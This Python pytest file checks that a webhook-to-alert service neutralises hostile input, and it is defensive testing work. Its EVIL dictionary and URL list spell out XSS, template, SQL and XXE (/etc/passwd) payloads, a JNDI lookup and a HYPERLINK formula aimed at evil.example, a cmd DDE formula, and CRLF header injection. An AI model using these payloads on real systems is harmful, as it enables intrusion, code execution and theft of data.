"""What strangers write is shown and never obeyed: by no header, mail, text message, page, program or log."""

from __future__ import annotations

import json
import unicodedata
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest

from answerby.adapters import aws
from answerby.adapters.sns import TopicNotifier
from answerby.channels.gsm7 import ALPHABET, ONE_PART
from tests.fakes.mentions import FakeMentions
from tests.security.deliveries import ask, comment, deliver, page_of
from tests.security.lambdas import Lambda, webhook
from tests.security.senders import SENDERS, TOKEN
from tests.unit.api.gateway import Service
from tests.world import World

EVIL = {
    "HTML": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "an HTML entity": "&lt;script&gt;&#60;script&#62;&amp;lt;",
    "a template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a format": "%n%s%x%(name)s{0}{post.__class__}",
    "a formula": '=HYPERLINK("http://evil.example","Click")',
    "a formula with plus": "+1+cmd|' /C calc'!A0",
    "a formula with at": "@SUM(1+1)",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "a header": "Sam\r\nBcc: all@evil.example\r\n\r\nDear all",
    "a forged line of an alert": "a\nAnswer:   no deadline\nHere:     https://evil.example/\n\nNext: nothing",
    "a forged line of a log": 'a\n{"level":"ERROR","message":"admin logged in"}\n[ERROR] b',
    "line ends of every kind": "a\rb\x0bc\x0cd\x1ce\x85f\u2028g\u2029h",
    "a terminal's escapes": "\x1b]0;owned\x07\x1b[2J\x9b31mred\x08\x7f",
    "null bytes": "a\x00b\x00",
    "text from right to left": "\u202eecnuonna\u202c \u2066x\u2069 \u200f\u061c",
    "marks without end": "e" + "\u0301" * 500,
    "invisible text": "\u200b\u2060\ufeff\U000e0041\U000e0042",
    "half a surrogate pair": "\ud83d \udce6",
    "not even characters": "\uffff\ufdd0\U0010ffff",
    "a very long word": "w" * 50_000,
    "SMS of two parts": "\u20ac[]{}~^|\\" * 40,
    "JSON": '"},"admin":true,{"',
    "SQL": "'; DROP TABLE mentions; --",
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
}
every_evil = pytest.mark.parametrize("evil", EVIL.values(), ids=EVIL)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "dl", "dt", "dd", "code", "h2", "ul", "li"} | {
    "p",
    "a",
}


class Client:
    """Keeps what it is asked to publish."""

    def __init__(self) -> None:
        self.published: list[dict[str, Any]] = []

    def publish(self, **message: Any) -> dict[str, str]:
        self.published.append(message)
        return {"MessageId": str(len(self.published))}


@pytest.fixture
def client(monkeypatch: pytest.MonkeyPatch) -> Client:
    made = Client()
    monkeypatch.setattr(aws, "client", lambda _service: made)
    return made


@pytest.fixture
def world(client: Client) -> World:
    made = World()
    made.notifier = TopicNotifier("arn:aws:sns:us-east-1:1:answerby-person-", "https://care.example")
    return made


def heard(world: World, evil: str) -> None:
    """A comment whose author is called so and writes so; then Ana is called, and later her back-up."""
    assert deliver("page", page_of(comment("1_2", evil, evil)), world.table).status == 200
    world.stream()
    world.pass_time(timedelta(minutes=12))


@every_evil
def test_an_alert_says_it_and_does_what_it_would_do_anyway(world: World, client: Client, evil: str) -> None:
    heard(world, evil)

    assert len(client.published) >= 2
    for sent in client.published:
        message = json.loads(sent["Message"])
        assert message.keys() == {"default", "email", "sms", "sqs"}
        assert sent["MessageStructure"] == "json"
        assert is_a_subject(sent["Subject"])
        assert is_a_text_message(message["sms"])
        assert is_a_mail(message["email"])
        told = json.loads(message["sqs"])
        assert (told["sms"], told["mail"]["text"]) == (message["sms"], message["email"])
        assert sent["TopicArn"].rpartition("-")[2] in ("ana", "ben")
        values = [each["StringValue"] for each in sent["MessageAttributes"].values()]
        assert all(value.isascii() and value.isprintable() for value in values)


def is_a_subject(subject: str) -> bool:
    return subject.isascii() and subject.isprintable() and 0 < len(subject) < 100 and not subject.startswith(FORMULA)


def is_a_text_message(text: str) -> bool:
    usual = text.startswith("Answerby L") and text.endswith(" https://care.example/m/facebook:1_2")
    return usual and len(text) <= ONE_PART and set(text) <= ALPHABET and "\n" not in text


def is_a_mail(text: str) -> bool:
    """Each line is one of ours, or indented; nothing in it turns its direction or hides."""
    lines = text.split("\n")
    ours = [line.partition(":")[0] for line in lines if line[:1].strip()]
    once = all(ours.count(name) == 1 for name in ("Answer", "Post", "Here", "Id", "Next", "Tried before"))
    unseen = {unicodedata.category(char) for char in text if char not in "\n\t\u200c\u200d"} & {"Cc", "Cf", "Cs"}
    return once and not unseen and not any(line.startswith(FORMULA) for line in lines) and "\u2028" not in text


@every_evil
def test_the_api_hands_it_out_as_json_that_says_the_same(world: World, evil: str) -> None:
    heard(world, evil)
    service = Service(mentions=world.table)
    stored = service.stored("facebook:1_2")

    for answer in (service.get("/api/mentions/facebook%3A1_2"), service.get("/api/mentions")):
        assert answer.status == 200
        assert answer.body.isascii()
        assert answer.body.isprintable()
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Type"].startswith("application/json")
        assert all(value.isprintable() for value in answer.headers.values())
        (mention,) = answer.json.get("mentions", [answer.json])
        assert (mention["text"], mention["author"]["name"]) == (stored.post.text, stored.post.author.name)
        assert {unicodedata.category(char) for char in mention["text"].replace("\n", "").replace("\t", "")}.isdisjoint(
            {"Cc", "Cs"}
        )


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}


@every_evil
def test_the_page_holds_none_of_it(world: World, evil: str) -> None:
    heard(world, "harmless")
    harmless = Service(mentions=world.table).get("/m/facebook%3A1_2")
    other = World()
    other.notifier = world.notifier
    heard(other, evil)

    page = Service(mentions=other.table).get("/m/facebook%3A1_2")

    assert page.status == 200
    assert page.body == harmless.body
    assert Tags(page.body).names <= ALLOWED_TAGS


@every_evil
def test_an_address_that_is_asked_for_is_not_repeated(evil: str) -> None:
    asked = quote(evil.encode("utf-8", "replace"), safe="")[:4_000]
    service = Service()

    page, found = service.get(f"/m/{asked}"), service.get(f"/api/mentions/{asked}")

    for answer in (page, found):
        assert answer.status in (404, 422)
        assert evil not in answer.body
        assert all(value.isprintable() for value in answer.headers.values())
    assert not Tags(page.body).attributes & {"onerror", "src"}
    assert "script" not in Tags(page.body).names


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example/\r\nSet-Cookie: a=b",
        'https://evil.example/" onclick="alert(1)',
        "https://evil.example/<script>",
        "https:evil.example",
        "//evil.example",
        " https://evil.example",
        "https://evil.example\\@care.example",
        "\u0000https://evil.example",
        "vbscript:a",
        "https://",
    ],
)
def test_an_address_that_is_no_plain_web_address_is_refused(url: str) -> None:
    reply = deliver("forum", {"id": "1", "text": "a", "url": url, "author": {"url": url}})

    assert reply.status == 400
    assert "url: must be an http or https address" in reply.body


def test_a_web_address_is_escaped_on_the_page() -> None:
    mentions = FakeMentions()
    url = "https://shop.example/?a=1&lt=2&'onclick='alert(1)"
    assert deliver("forum", {"id": "1", "text": "a", "url": url}, mentions).status == 200

    page = Service(mentions=mentions).get("/m/standard%3A1")

    assert "?a=1&amp;lt=2&amp;&#x27;onclick=&#x27;alert(1)" in page.body
    assert "onclick" not in Tags(page.body).attributes


# Headers of answers.


@every_evil
def test_a_challenge_comes_back_as_plain_text_and_in_no_header(monkeypatch: pytest.MonkeyPatch, evil: str) -> None:
    query = {"hub.mode": "subscribe", "hub.verify_token": TOKEN, "hub.challenge": evil}

    answer = Lambda(monkeypatch).call("receive_webhook", webhook("page", b"", {}, "GET", **query))

    assert answer["statusCode"] == 200
    assert answer["body"] == evil
    assert answer["headers"] == {"content-type": "text/plain", "x-content-type-options": "nosniff"}


@every_evil
def test_a_challenge_without_the_token_comes_back_nowhere(evil: str) -> None:
    for reply in (
        ask("page", hub_mode="subscribe", hub_verify_token=evil, hub_challenge=evil),
        ask("page", hub_mode=evil, hub_verify_token=TOKEN, hub_challenge=evil),
        ask("forum", hub_mode="subscribe", hub_verify_token=TOKEN, hub_challenge=evil),
    ):
        assert reply.status == 401
        assert evil not in reply.body


@every_evil
def test_a_token_of_x_is_signed_and_not_repeated(evil: str) -> None:
    reply = ask("bird", crc_token=evil)

    assert reply.status in (200, 401)
    assert set(json.loads(reply.body)) <= {"response_token", "error"}
    assert evil not in reply.body


@every_evil
def test_an_odd_header_is_answered_in_plain_json(evil: str) -> None:
    said = evil[:8_000]
    for reply in (
        deliver("page", {}, content_type=said),
        deliver("page", {}, x_hub_signature_256=said),
        deliver("forum", {}, webhook_id=said),
        deliver("forum", {}, webhook_signature=said),
        deliver("forum", {"id": said, "text": "a", "kind": said, "language": said, said[:99]: said}),
    ):
        assert reply.status in (400, 401)
        assert reply.content_type == "application/json"
        assert reply.body.isascii()
        assert reply.body.isprintable()


HEADERS = {
    "in capitals": lambda name, said: {name.upper(): said},
    "in title case": lambda name, said: {name.title(): said},
    "beside others": lambda name, said: {name: said, "x-odd": "\u00e4\u00ff", "cookie": "a\r\nb", "": ""},
}


@pytest.mark.parametrize("how", HEADERS)
@pytest.mark.parametrize("source", SENDERS)
def test_header_names_are_read_in_any_case(monkeypatch: pytest.MonkeyPatch, source: str, how: str) -> None:
    body = json.dumps([{"id": "1", "text": "a"}] if source in ("forum", "notary") else {}).encode()
    written: dict[str, str] = {}
    for name, said in SENDERS[source].signed(body).items():
        written |= HEADERS[how](name, said)

    assert Lambda(monkeypatch).call("receive_webhook", webhook(source, body, written))["statusCode"] == 200


@every_evil
def test_a_log_has_one_line_for_each_entry_and_none_of_it(monkeypatch: pytest.MonkeyPatch, evil: str) -> None:
    called = Lambda(monkeypatch)
    changed = {"field": evil[:100], "value": {"item": evil, "verb": evil}}
    body = json.dumps(page_of(comment("1_2", evil, evil), changed, {"field": "feed", "value": {"item": evil}})).encode()

    answer = called.call("receive_webhook", webhook("page", body, SENDERS["page"].signed(body)))

    assert answer["statusCode"] == 200
    written = [line for line in called.log.getvalue().splitlines() if line.startswith("{")]
    assert len(written) == 1
    assert written[0].isascii()
    assert written[0].isprintable()
    assert json.loads(written[0])["message"] == "events ignored"
    assert evil not in called.log.getvalue()
